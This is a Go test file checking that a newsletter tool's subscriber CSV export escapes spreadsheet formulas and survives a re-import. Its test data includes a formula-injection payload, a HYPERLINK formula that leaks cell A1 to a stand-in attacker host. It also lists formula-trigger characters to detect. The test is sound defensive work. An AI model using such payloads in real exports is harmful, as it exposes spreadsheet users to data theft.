package main

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

// TestSubscriberExportNeutralisesFormulas: a name that a spreadsheet would
// run as a formula is exported with a leading quote, and the export
// imports back to the same name and address.
func TestSubscriberExportNeutralisesFormulas(t *testing.T) {
	d := newInstall(t)
	name := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
	d.mustRun("subscriber", "add", "=sum@example.org", "--newsletter", "weekly", "--confirmed", "--name", name)
	d.mustRun("subscriber", "add", "plus@example.org", "--newsletter", "weekly", "--confirmed", "--name", "+1 555 0100")
	export := d.mustRun("subscriber", "export")
	rows, err := csv.NewReader(strings.NewReader(export)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, r := range rows {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
		if r[0] == "'=sum@example.org" && r[1] == "'"+name || r[0] == "plus@example.org" && r[1] == "'+1 555 0100" {
			found++
		}
	}
	if found != 2 {
		t.Fatalf("export:\n%s", export)
	}
	d.mustRun("subscriber", "remove", "=sum@example.org")
	d.mustRun("subscriber", "import", d.writeFile("export.csv", export))
	sorted := func(s string) string { l := strings.Split(s, "\n"); slices.Sort(l); return strings.Join(l, "\n") }
	if out := d.mustRun("subscriber", "export"); sorted(out) != sorted(export) {
		t.Errorf("re-imported export differs:\n%s\nwant\n%s", out, export)
	}
}
